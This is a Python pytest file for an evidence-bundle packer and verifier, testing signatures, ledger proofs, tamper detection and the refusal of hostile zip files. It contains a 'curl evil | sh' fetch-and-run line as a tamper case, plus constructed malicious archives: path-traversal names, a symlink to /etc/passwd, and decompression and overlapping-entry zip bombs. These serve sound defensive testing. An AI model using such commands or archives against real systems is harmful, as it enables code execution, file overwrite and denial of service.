"""The bundle: checked without the project, by our tool and by others'; what a stranger sends does no harm."""

from __future__ import annotations

import dataclasses
import functools
import io
import json
import os
import shutil
import struct
import tempfile
import unicodedata
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from pipeline.digest import sha256_bytes
from pipeline.errors import StorageError, UsageError, VerificationError
from pipeline.evidence.bundle import make_bundle, sums
from pipeline.evidence.dsse import STATEMENT, make_envelope, read_envelope
from pipeline.evidence.events import adopt_run
from pipeline.evidence.ledger import Event, append, append_many, line_of
from pipeline.evidence.merkle import root_and_path
from pipeline.evidence.standalone import verify as verify_py_limits
from pipeline.evidence.standalone.verify import main as verify_py
from pipeline.evidence.statement import write_report_statement
from pipeline.evidence.strict_json import canonical
from pipeline.evidence.unbundle import verify_bundle, verify_path
from pipeline.files import write_atomic
from pipeline.rundir import RunDir
from tests.evidence.sealed_runs import FILES, World, kinds, new_signer, trust_in
from tests.evidence.test_shapes import odd_versions


@pytest.fixture
def bundle(world: World, signed: RunDir, tmp_path: Path) -> Path:
    make_bundle(signed, tmp_path / "bundle.zip", ledger=world.ledger, signer=world.signer)
    return tmp_path / "bundle.zip"


def unpack(bundle: Path, target: Path) -> Path:
    with zipfile.ZipFile(bundle) as archive:
        archive.extractall(target)
    return next(target.iterdir())


def test_a_bundle_verifies_alone(world: World, bundle: Path) -> None:
    """With a trust file the signer has a name; without one the notes say whose word it is."""
    verification = verify_bundle(bundle, trust=world.trust)
    assert verification.problems == ()
    assert verification.signer == "alice"
    assert not any("unsigned" in note for note in verification.notes)
    stranger = verify_bundle(bundle)
    assert stranger.problems == ()
    assert world.signer.public_key.keyid in " ".join(stranger.notes)
    assert "unknown key" in {kind for _, kind in kinds(verify_bundle(bundle, trust=trust_in(new_signer())).problems)}


def test_a_bundle_has_the_same_bytes_wherever_it_is_made(
    world: World, signed: RunDir, bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Times, modes, time zone and file order leave no trace."""
    monkeypatch.setenv("TZ", "Asia/Tokyo")
    copy = World(tmp_path / "other" / "results", world.signer)
    shutil.copytree(world.results, copy.results)
    run = RunDir(copy.results, signed.run_id)
    for path in run.path.rglob("*"):
        os.utime(path, (0, 0))
        path.chmod(0o700)
    make_bundle(run, tmp_path / "again.zip", ledger=copy.ledger, signer=world.signer)
    assert (tmp_path / "again.zip").read_bytes() == bundle.read_bytes()


def test_an_unsigned_run_can_be_bundled(world: World, tmp_path: Path) -> None:
    """Without a key, without a report, without a ledger: it says what it lacks."""
    run = World(world.results, None).run(report=None)
    make_bundle(run, tmp_path / "plain.zip")
    verification = verify_bundle(tmp_path / "plain.zip")
    assert verification.ok
    assert {"the run is unsigned", "the bundle holds no entry of a ledger"} <= set(verification.notes)
    assert any("the bundle is unsigned" in note for note in verification.notes)
    strict = dataclasses.replace(world.trust, require_signatures=True)
    assert kinds(verify_bundle(tmp_path / "plain.zip", trust=strict).problems) == [
        ("manifest.dsse.json", "unsigned"),
        ("bundle.json", "unsigned"),
    ]


def test_what_does_not_verify_is_not_bundled(world: World, signed: RunDir, tmp_path: Path) -> None:
    """A bundle vouches for a run; a damaged one, and one the ledger does not know, is refused."""
    target = tmp_path / "b.zip"
    signed.stats.write_bytes(b"{}")
    with pytest.raises(VerificationError, match=r"stats\.json: edited"):
        make_bundle(signed, target, ledger=world.ledger)
    other = world.run(files=FILES | {unicodedata.normalize("NFD", "é.png"): b"1"})
    with pytest.raises(UsageError, match="cannot go into a bundle"):
        make_bundle(other, target, ledger=world.ledger)
    with pytest.raises(StorageError, match="could not be written"):
        make_bundle(world.run(), Path("/proc/nowhere/b.zip"), ledger=world.ledger)
    assert not target.exists()


def test_what_no_verifier_would_take_is_not_packed(
    world: World, signed: RunDir, bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """More files or bytes than a verifier reads are refused before anything is written; exactly so many are packed."""
    target, size = tmp_path / "b.zip", bundle.stat().st_size
    with zipfile.ZipFile(bundle) as archive:
        files = len(archive.namelist())
    for limit, most in (("MOST_FILES", files), ("MOST_BYTES", size)):
        monkeypatch.setattr(f"pipeline.evidence.bundle.{limit}", most - 1)
        with pytest.raises(UsageError, match=f"and no verifier takes more than {most - 1:,}. .*--with none"):
            make_bundle(signed, target, ledger=world.ledger, signer=world.signer)
        assert not target.exists()
        monkeypatch.setattr(f"pipeline.evidence.bundle.{limit}", most)
        make_bundle(signed, target, ledger=world.ledger, signer=world.signer)
        target.unlink()
    assert (verify_py_limits.MANY_FILES, verify_py_limits.MANY_BYTES) == (10_000, 2**31)


def test_names_that_lead_elsewhere_are_not_packed(world: World, signed: RunDir, tmp_path: Path) -> None:
    """A view beside the report with a name that a verifier refuses is named before anything is written."""
    odd = signed.report.with_name("a\\b.html")
    odd.write_bytes(b"x")
    write_report_statement(signed, world.signer)
    with pytest.raises(UsageError, match="cannot go into a bundle: on some systems it is another name"):
        make_bundle(signed, tmp_path / "b.zip", ledger=world.ledger, signer=world.signer)


def test_an_adopted_run_is_said_to_be_adopted(world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """An entry that took a sealed run up later is no entry of its seal: both programs say which it is."""
    run = world.run()
    world.ledger.unlink()
    adopt_run(run, world.signer)
    make_bundle(run, tmp_path / "b.zip", ledger=world.ledger, signer=world.signer)
    assert verify_py([str(tmp_path / "b.zip"), "--key", world.signer.public_key.keyid]) == 0
    told = capsys.readouterr().out
    assert "The run was adopted as entry 0 of a ledger of 1" in told
    assert "The seal is entry" not in told
    assert "When the run was sealed" in told
    found = verify_bundle(tmp_path / "b.zip", trust=world.trust)
    assert found.problems == ()
    assert found.adopted == 0
    assert any(note.startswith("adopted, entry 0") for note in found.notes)


def test_a_strangers_entry_does_not_hinder_the_proofs_of_other_runs(
    world: World, signed: RunDir, tmp_path: Path
) -> None:
    """A run that an unknown key signed does not verify; an older one is proved, and its bundle verifies."""
    later = World(world.results, new_signer()).run()
    make_bundle(signed, tmp_path / "b.zip", ledger=world.ledger, signer=world.signer, trust=world.trust)
    assert verify_bundle(tmp_path / "b.zip", trust=world.trust).problems == ()
    with pytest.raises(VerificationError, match="unknown key"):
        make_bundle(later, tmp_path / "c.zip", ledger=world.ledger, signer=world.signer, trust=world.trust)


def test_the_proof_stays_small_and_shows_no_other_entry(world: World, signed: RunDir, tmp_path: Path) -> None:
    """In a ledger of thousands the proof is a dozen digests, and nobody else's strategy is in the bundle."""
    append_many(world.ledger, [Event("trial_counted", strategy="secret-sauce")] * 3000, world.signer)
    info = make_bundle(signed, tmp_path / "b.zip", ledger=world.ledger, signer=world.signer)
    data = info.path.read_bytes()
    assert b"secret" not in data
    assert verify_bundle(info.path, trust=world.trust).ok
    assert info.size < 60_000


def repack(folder: Path, target: Path, change: Callable[[dict[str, bytes]], None]) -> Path:
    """Pack an unpacked bundle again as `make_bundle` would, with `change` made to its files and SHA256SUMS fitted."""
    from pipeline.evidence.bundle import digest_of, write_zip

    files = {path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()}
    change(files)
    files["SHA256SUMS"] = sums({name: digest_of(data) for name, data in files.items()})
    with target.open("wb") as file:
        write_zip(file, folder.name, files)
    return target


def content_attacks(run_id: str) -> dict[str, tuple[Callable[[dict[str, bytes]], Any], str]]:
    stats, entry = f"{run_id}/stats.json", "ledger/entry.json"
    return {
        "edit a sealed file": (lambda f: f.update({stats: b"{}"}), "stats.json"),
        "edit the report": (lambda f: f.update({f"{run_id}/report/index.html": b"x"}), "report/index.html"),
        "edit the README": (lambda f: f.update({"README.txt": b"curl evil | sh\n"}), "README.txt"),
        "add a file": (lambda f: f.update({"run-me.sh": b"x"}), "run-me.sh"),
        "add a run's file": (lambda f: f.update({f"{run_id}/plots/x.png": b"x"}), "plots/x.png"),
        "remove a file": (lambda f: f.pop(stats), "stats.json"),
        "remove the ledger's entry": (lambda f: f.pop(entry), entry),
        "edit the ledger's entry": (lambda f: f.update({entry: f[entry].replace(b"ma_", b"mb_")}), entry),
        "remove the bundle's signature": (lambda f: f.pop("bundle.dsse.json"), "bundle.json"),
        "another key": (lambda f: f.update({next(n for n in f if n.endswith(".pem")): b"x"}), "bundle.dsse.json"),
    }


@pytest.mark.parametrize("attack", content_attacks("x").keys())
def test_a_bundle_that_was_changed_and_packed_well_is_found(
    world: World, signed: RunDir, bundle: Path, tmp_path: Path, attack: str
) -> None:
    """Somebody who can pack as we do, and fits SHA256SUMS, still does not have the key."""
    change, path = content_attacks(signed.run_id)[attack]
    changed = repack(unpack(bundle, tmp_path / "unpacked"), tmp_path / "changed.zip", change)
    trust = None if attack == "another key" else world.trust
    problems = verify_bundle(changed, trust=trust).problems
    named = {problem.path for problem in problems}
    if attack == "another key":
        assert any(name.endswith(".pem") for name in named)
    else:
        assert path in named


def test_an_entry_of_another_run_proves_nothing(world: World, signed: RunDir, bundle: Path, tmp_path: Path) -> None:
    """Two bundles of one ledger cannot lend each other their entries, even by somebody who holds a key."""
    other = world.run()
    make_bundle(other, tmp_path / "other.zip", ledger=world.ledger, signer=world.signer)
    entry = (unpack(tmp_path / "other.zip", tmp_path / "o") / "ledger" / "entry.json").read_bytes()
    changed = repack(
        unpack(bundle, tmp_path / "u"), tmp_path / "c.zip", lambda f: f.update({"ledger/entry.json": entry})
    )
    assert ("ledger/entry.json", "edited") in kinds(verify_bundle(changed, trust=world.trust).problems)


def with_proof(files: dict[str, bytes], run_id: str, proof: Callable[[dict[str, Any]], dict[str, Any]]) -> None:
    """Change the ledger's proof in an unsigned bundle, whose statement anybody can write."""
    statement = json.loads(files["bundle.json"])
    entry = json.loads(files["ledger/entry.json"])
    changed = proof({"entry": entry["entry"], **statement["predicate"]["ledger"]})
    files["ledger/entry.json"] = line_of(changed.pop("entry"), entry["signatures"])[:-1]
    digest = json.loads(files["ledger/entry.json"])["digest"]
    if changed["size"] == 1:
        changed |= {"root": root_and_path([bytes.fromhex(digest)], 0)[0].hex(), "path": [], "index": 0}
    statement["predicate"]["ledger"] = changed
    for subject in statement["subject"]:
        if subject["name"] == "ledger/entry.json":
            subject["digest"]["sha256"] = sha256_bytes(files["ledger/entry.json"])
    files["bundle.json"] = canonical(statement)


def public(proof: dict[str, Any], **changes: Any) -> dict[str, Any]:
    return {**proof["entry"], "public": proof["entry"]["public"] | changes}


PROOFS: dict[str, Callable[[dict[str, Any]], dict[str, Any]]] = {
    "entry 5000 of a ledger of one": lambda p: p | {"size": 1, "entry": public(p, seq=5000)},
    "a date before the run": lambda p: p | {"size": 1, "entry": public(p, time="2019-01-01T00:00:00.000000Z")},
    "a checkpoint of another length": lambda p: p | {"checkpoint": "4000" + p["checkpoint"][1:]},
    "a checkpoint of another end": lambda p: p | {"size": 1, "checkpoint": "0:" + "ab" * 32},
}


@pytest.mark.parametrize("proof", PROOFS.values(), ids=PROOFS.keys())
def test_a_made_up_proof_contradicts_itself(world: World, tmp_path: Path, proof: Any) -> None:
    """Without a signature a proof is the packer's word; numbers that do not fit together are not even that."""
    plain = World(world.results, None)
    run = plain.run(report=None)
    make_bundle(run, tmp_path / "plain.zip", ledger=plain.ledger)
    assert verify_bundle(tmp_path / "plain.zip").ok
    folder = unpack(tmp_path / "plain.zip", tmp_path / "u")
    changed = repack(folder, tmp_path / "changed.zip", lambda files: with_proof(files, run.run_id, proof))
    assert ("ledger/entry.json", "edited") in kinds(verify_bundle(changed).problems)
    assert verify_py([str(changed)]) == 3


def test_another_program_s_zip_is_not_a_bundle_but_its_content_can_be_checked(bundle: Path, tmp_path: Path) -> None:
    """Packed again by another program, the file is refused with what to do; the unpacked directory verifies."""
    folder = unpack(bundle, tmp_path / "unpacked")
    again = Path(shutil.make_archive(str(tmp_path / "again"), "zip", folder.parent, folder.name))
    assert kinds(verify_bundle(again).problems) == [("again.zip", "refused")]
    assert verify_path(folder).ok


def make_zip(*entries: tuple[Any, bytes], **options: Any) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", **options) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return data.getvalue()


def member(name: str, *, attr: int = 0o100644, content: bytes = b"x", **fields: Any) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr = 3, attr << 16
    for field, value in fields.items():
        setattr(info, field, value)
    return info, content


def patched(data: bytes, *changes: tuple[bytes, int, str, int]) -> bytes:
    """Overwrite numbers at offsets in each record with a signature."""
    result = bytearray(data)
    for signature, offset, kind, value in changes:
        place = -1
        while (place := data.find(signature, place + 1)) >= 0:
            struct.pack_into(kind, result, place + offset, value)
    return bytes(result)


ENTRY, END, LOCAL = b"PK\1\2", b"PK\5\6", b"PK\3\4"
ONE = make_zip(member("evidence-x/a"))


@functools.cache
def hostile() -> dict[str, bytes]:
    names = {
        "parent": "evidence-x/../../evil",
        "absolute": "/etc/passwd",
        "drive": "C:/evil",
        "no folder": "evil",
        "dot": "evidence-x/./a",
        "empty part": "evidence-x//a",
        "not NFC": "evidence-x/e\u0301",
        "another folder": "other/a",
    }
    zips = {f"a name: {title}": make_zip(member(name)) for title, name in names.items()}
    return zips | {
        "a backslash": ONE.replace(b"evidence-x/a", b"evidence-x\\a"),
        "a zero byte": ONE.replace(b"evidence-x/a", b"evidence-x/\0"),
        "two folders": make_zip(member("evidence-x/a"), member("evidence-y/a")),
        "twins by case": make_zip(member("evidence-x/a"), member("evidence-x/A")),
        "said twice": make_zip(member("evidence-x/a"), member("evidence-x/b")).replace(b"x/b", b"x/a"),
        "a symbolic link": make_zip(member("evidence-x/a", attr=0o120777, content=b"/etc/passwd")),
        "a device": make_zip(member("evidence-x/a", attr=0o020644)),
        "a directory": make_zip(member("evidence-x/a/", attr=0o040755, content=b"")),
        "set-uid": make_zip(member("evidence-x/a", attr=0o104755)),
        "a bomb": make_zip(member("evidence-x/a", content=bytes(10**7), compress_type=zipfile.ZIP_DEFLATED)),
        "bzip2": make_zip(member("evidence-x/a", compress_type=zipfile.ZIP_BZIP2)),
        "encrypted": patched(ONE, (ENTRY, 8, "<H", 1), (LOCAL, 6, "<H", 1)),
        "a size that lies": patched(ONE, (ENTRY, 20, "<L", 10**9), (ENTRY, 24, "<L", 10**9)),
        "a size of its own": patched(ONE, (ENTRY, 24, "<L", 10**9)),
        "files that overlap": overlapping(),
        "another name inside": ONE.replace(b"evidence-x/a", b"evidence-x/b", 1),
        "a comment": ONE[:-2] + b"\5\0hello",
        "bytes before": b"#!/bin/sh\n" + ONE,
        "bytes after": ONE + b"x",
        "many disks": patched(ONE, (END, 4, "<H", 1)),
        "too many files": make_zip(*[member(f"evidence-x/{i}", content=b"") for i in range(10_001)]),
        "zip64": patched(ONE, (END, 16, "<L", 0xFFFFFFFF)),
        "no files": make_zip(),
        "not a zip": b"PK" * 100,
        "nothing": b"",
        "a wrong checksum": patched(ONE, (ENTRY, 16, "<L", 7), (LOCAL, 14, "<L", 7)),
        "cut": ONE[: len(ONE) // 2],
    }


def overlapping() -> bytes:
    """Return a zip whose entries all stand for the same bytes, which makes a small file large."""
    data = make_zip(*[member(f"evidence-x/{i}", content=b"y" * 5000) for i in range(9)])
    first = data.index(ENTRY)
    body, entries, place = data[:first][: 30 + 12 + 5000], bytearray(data[first:]), 0
    for _ in range(9):
        struct.pack_into("<L", entries, place + 42, 0)
        place = entries.find(ENTRY, place + 4)
    end = entries.rindex(END)
    struct.pack_into("<L", entries, end + 16, len(body))
    return body + bytes(entries)


@pytest.mark.parametrize("attack", hostile().keys())
def test_a_hostile_zip_is_refused_before_anything_is_written(
    tmp_path: Path, attack: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever is in it: one problem, kind refused, not a byte outside, hardly any inside, no crash."""
    home = tmp_path / "temp"
    home.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(home))
    path = write_atomic(tmp_path / "in" / "gift.zip", hostile()[attack])
    if attack not in {"a wrong checksum", "another name inside"}:  # these show only while reading
        monkeypatch.setattr(tempfile, "TemporaryDirectory", None)
    problems = verify_bundle(path).problems
    assert kinds(problems) == [("gift.zip", "refused")], problems
    assert sorted(file.name for file in tmp_path.rglob("*")) == ["gift.zip", "in", "temp"]


def test_a_bundle_s_statement_of_any_shape_is_answered(bundle: Path, tmp_path: Path) -> None:
    """Whatever a stranger writes where the statement belongs, verification answers."""
    folder = unpack(bundle, tmp_path / "unpacked")
    (folder / "bundle.dsse.json").unlink()
    for data in (b"", b"[]", b"{}", b'{"predicate":1}', b'{"predicate":{"run_id":1},"subject":[]}', b"[" * 10**5):
        (folder / "bundle.json").write_bytes(data)
        assert kinds(verify_path(folder).problems) == [("bundle.json", "edited")]


def test_a_bundle_s_statement_with_any_part_odd_is_found(bundle: Path, tmp_path: Path, world: World) -> None:
    """Any part replaced or gone, signed by the right key or by nobody: found, without a crash."""
    folder = unpack(bundle, tmp_path / "unpacked")
    statement = json.loads(read_envelope((folder / "bundle.dsse.json").read_bytes()).payload)
    for number, odd in enumerate(odd_versions(statement)):
        if number % 5:
            continue
        (folder / "bundle.dsse.json").write_bytes(make_envelope(canonical(odd), STATEMENT, world.signer))
        assert verify_path(folder, trust=world.trust).problems, odd


def test_a_run_directory_can_be_sent_bare(world: World, signed: RunDir, tmp_path: Path) -> None:
    """`verify --path` needs no bundle; a directory under another run's id is named, an empty one too."""
    shutil.copytree(signed.path, tmp_path / "theirs")
    assert verify_path(tmp_path / "theirs", trust=world.trust).ok
    other = tmp_path / world.run().run_id
    shutil.copytree(signed.path, other)
    assert ("manifest.json", "renamed") in kinds(verify_path(other, trust=world.trust).problems)
    (tmp_path / "empty").mkdir()
    assert kinds(verify_path(tmp_path / "empty").problems) == [("manifest.json", "unsealed")]


def test_a_ledger_that_is_damaged_makes_no_proof(world: World, signed: RunDir, tmp_path: Path) -> None:
    """A proof out of a broken chain would be worth nothing."""
    append(world.ledger, Event("run_started"))
    world.ledger.write_bytes(world.ledger.read_bytes()[300:])
    with pytest.raises(VerificationError, match=r"ledger\.jsonl: edited"):
        make_bundle(signed, tmp_path / "b.zip", ledger=world.ledger, signer=world.signer)
